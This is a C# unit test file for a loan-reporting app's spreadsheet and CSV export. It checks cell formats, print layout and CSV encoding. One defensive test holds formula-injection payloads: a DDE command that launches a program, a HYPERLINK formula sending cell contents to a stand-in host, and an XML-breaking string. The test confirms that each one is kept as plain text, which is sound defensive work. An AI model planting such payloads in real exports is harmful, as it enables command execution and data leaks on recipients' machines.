using System.Text;
using Prosmex.Functions.Http.Export;
using Prosmex.Tests.Infrastructure;

namespace Prosmex.Tests.Http;

/// <summary>The exported files, cell by cell, and as they print.</summary>
[Trait("Kind", "Unit")]
public sealed class ExportTests
{
    private const string Lender = "Cajas & Créditos <Jalisco>";

    private static readonly SheetTitle Title = new("Reporte", "Semana del 16 al 22");

    private static readonly ColumnHeader[] Columns =
    [
        new("Texto", CellFormat.Text), new("Entero", CellFormat.Integer), new("Monto", CellFormat.Monto), new("Porcentaje", CellFormat.Porcentaje), new("Día", CellFormat.Dia),
        new("Número", CellFormat.Id),
    ];

    private static readonly Fila[] Filas =
    [
        new(["Ñandú & <Cía> \"x\"", 7, 1234567.89m, 0.123456m, new DateOnly(2026, 11, 16), 7924]),
        new(["", 0, -0.01m, -1.5m, new DateOnly(2000, 2, 29), 0]),
        new([null, null, null, null, null, null]),
        new(["Total", 7, 1234567.88m, null, null, null], EsTotal: true),
    ];

    [Fact]
    public async Task Xlsx_EachFormat_IsReadAsWritten()
    {
        var libro = await LibroAsync(new("Semana 2026-11-16", Title, Columns, Filas.ToAsyncEnumerable()), new("Otra", Title, [new("Solo", CellFormat.Text)], AsyncEnumerable.Empty<Fila>()));
        Assert.Equal(["Semana 2026-11-16", "Otra"], libro.Hojas);
        var filas = libro["Semana 2026-11-16"];
        Assert.Equal(Columns.Select(c => c.Title), filas[0].Select(c => c.Value));
        Assert.All(filas[0], c => Assert.True(c.IsBold));
        Assert.Equal(["Ñandú & <Cía> \"x\"", 7m, 1234567.89m, 0.123456m, new DateOnly(2026, 11, 16), 7924m], filas[1].Select(c => c.Value));
        Assert.Equal(["@", "#,##0", "#,##0.00", "0.00%", "dd\\/mm\\/yyyy", "0"], filas[1].Select(c => c.Format));
        Assert.Equal(["", 0m, -0.01m, -1.5m, new DateOnly(2000, 2, 29), 0m], filas[2].Select(c => c.Value));
        Assert.All(filas[3], c => Assert.Null(c.Value));
        Assert.All(filas[1].Concat(filas[2]), c => Assert.False(c.IsBold));
        Assert.All(filas[4], c => Assert.True(c.IsBold));
        Assert.Equal("#,##0.00", filas[4][2].Format);
        Assert.Equal("Solo", Assert.Single(Assert.Single(libro["Otra"])).Value);
    }

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1")]
    [InlineData("\uFF0D1")]
    [InlineData("\uFF20SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("=HYPERLINK(\"https://x.example?\"&A1,\"ver\")")]
    [InlineData("_x003D_1")]
    [InlineData("  blancos  ")]
    [InlineData("-->]]></t><f>1</f>")]
    public async Task Text_ThatLooksLikeAFormula_StaysText(string text)
    {
        var hoja = new Hoja("H", Title, [new("=1", CellFormat.Text)], new[] { new Fila([text]) }.ToAsyncEnumerable());
        var cell = Assert.Single((await LibroAsync(hoja))["H"][1]);
        Assert.Equal((text.Replace("_x003D_", "_x005F_x003D_", StringComparison.Ordinal), "@"), (cell.Value, cell.Format));

        var lines = Fields(Encoding.UTF8.GetString(await CsvAsync(hoja))[1..]);
        Assert.Equal("'=1", lines[0][0]);
        Assert.Equal(text[0] is '=' or '+' or '-' or '@' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20' or '\t' or '\r' ? "'" + text : text, lines[1][0]);
    }

    [Fact]
    public async Task Csv_EachFormat_IsRfc4180InUtf8WithBom()
    {
        var bytes = await CsvAsync(new("H", Title, Columns, Filas.Append(new(["con, coma\r\ny línea", -3, 0.5m, 1m, null, null])).ToAsyncEnumerable()));
        Assert.Equal(
            "\uFEFFTexto,Entero,Monto,Porcentaje,Día,Número\r\n"
            + "\"Ñandú & <Cía> \"\"x\"\"\",7,1234567.89,12.35%,2026-11-16,7924\r\n"
            + ",0,-0.01,-150.00%,2000-02-29,0\r\n"
            + ",,,,,\r\n"
            + "Total,7,1234567.88,,,\r\n"
            + "\"con, coma\r\ny línea\",-3,0.50,100.00%,,\r\n",
            Encoding.UTF8.GetString(bytes));
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
    }

    [Fact]
    public async Task Xlsx_AnySheet_IsSetUpForPaper()
    {
        var libro = await LibroAsync(new("Préstamos", Title, Columns, Filas.ToAsyncEnumerable()), new("L'Oréal", Title, [new("Solo", CellFormat.Text)], AsyncEnumerable.Empty<Fila>()));

        libro.AssertPrints("Préstamos", Lender, "Reporte", landscape: false);
        var setup = libro.Setup("Préstamos");
        Assert.Equal([Lender, "Reporte", "Semana del 16 al 22"], setup.TitleLines);
        Assert.Equal(["left", "right", "right", "right", "right", "right"], libro["Préstamos"][0].Select(c => c.Alignment));

        // The rows of data alone: a total is neither filtered nor sorted.
        Assert.Equal("A4:F7", setup.Filter);
        Assert.Equal(["A1:F1", "A2:F2", "A3:F3"], setup.Merged);
        Assert.Equal("'L''Oréal'!$1:$4", libro.Setup("L'Oréal").RepeatedRows);
        Assert.Equal("A4:A4", libro.Setup("L'Oréal").Filter);
        Assert.Empty(libro.Setup("L'Oréal").Merged);
    }

    [Theory]
    [InlineData(7, "portrait")]
    [InlineData(8, "landscape")]
    public async Task Xlsx_WiderThanUprightPaper_IsLandscape(int amounts, string orientation)
    {
        var columns = Enumerable.Range(1, amounts).Select(n => new ColumnHeader($"Monto {n}", CellFormat.Monto)).ToList();

        var libro = await LibroAsync(new Hoja("H", Title, columns, AsyncEnumerable.Empty<Fila>()));

        Assert.Equal(orientation, libro.Setup("H").Orientation);
    }

    [Theory]
    [InlineData("Bono", 9, 30)]
    [InlineData("Número de créditos", 10, 45)]
    [InlineData("Semanas cumplidas del préstamo", 11, 75)]
    [InlineData("Otorrinolaringólogo", 21, 30)]
    public async Task Xlsx_LongHeading_HasRoomForItsLinesAndTheFilterButton(string heading, double width, double height)
    {
        var libro = await LibroAsync(new Hoja("H", Title, [new(heading, CellFormat.Integer)], AsyncEnumerable.Empty<Fila>()));

        Assert.Equal([width], libro.Setup("H").Widths);
        Assert.Equal(height, libro.Setup("H").HeadingHeight);
    }

    [Theory]
    [InlineData("Corto", null)]
    [InlineData("Diecinueve letras ya", 30.0)]
    [InlineData("Sinespaciosperomuchomáslargoquelacolumna", 45.0)]
    public async Task Xlsx_TextWiderThanItsColumn_HasRoomForItsLines(string text, double? height)
    {
        var libro = await LibroAsync(new Hoja("H", Title, [new("T", CellFormat.Text, 18)], new[] { new Fila([text]) }.ToAsyncEnumerable()));

        Assert.Equal([height], libro.Setup("H").RowHeights);
        Assert.True(libro["H"][1][0].Wraps);
    }

    [Fact]
    public async Task Xlsx_NotesUnderTheTitle_HaveALineEach()
    {
        var title = Title with { Detail = "Uno\nDos\nTres" };

        var libro = await LibroAsync(new Hoja("H", title, [new("T", CellFormat.Text, 18)], AsyncEnumerable.Empty<Fila>()));

        Assert.Equal("Uno\nDos\nTres", libro.Setup("H").TitleLines[2]);
        Assert.Equal(3 * 14, libro.Setup("H").TitleHeights[2]);
    }

    private static async Task<Workbook> LibroAsync(params Hoja[] hojas)
    {
        using var output = new MemoryStream();
        await Xlsx.WriteAsync(output, Lender, hojas, CancellationToken.None);
        return Workbook.Read(output.ToArray());
    }

    private static async Task<byte[]> CsvAsync(Hoja hoja)
    {
        using var output = new MemoryStream();
        await Csv.WriteAsync(output, hoja, CancellationToken.None);
        return output.ToArray();
    }

    /// <summary>What a reader of RFC 4180 makes of it.</summary>
    private static List<List<string>> Fields(string csv)
    {
        List<List<string>> lines = [[]];
        for (var i = 0; i < csv.Length;)
        {
            var fieldName = new StringBuilder();
            if (csv[i] == '"')
            {
                for (i++; csv[i] != '"' || (i + 1 < csv.Length && csv[i + 1] == '"'); i++)
                {
                    i += csv[i] == '"' ? 1 : 0;
                    fieldName.Append(csv[i]);
                }

                i++;
            }
            else
            {
                for (; csv[i] is not (',' or '\r'); i++)
                {
                    fieldName.Append(csv[i]);
                }
            }

            lines[^1].Add(fieldName.ToString());
            if (csv[i] == ',')
            {
                i++;
                continue;
            }

            Assert.Equal("\r\n", csv.Substring(i, 2));
            i += 2;
            lines.Add([]);
        }

        return lines;
    }
}
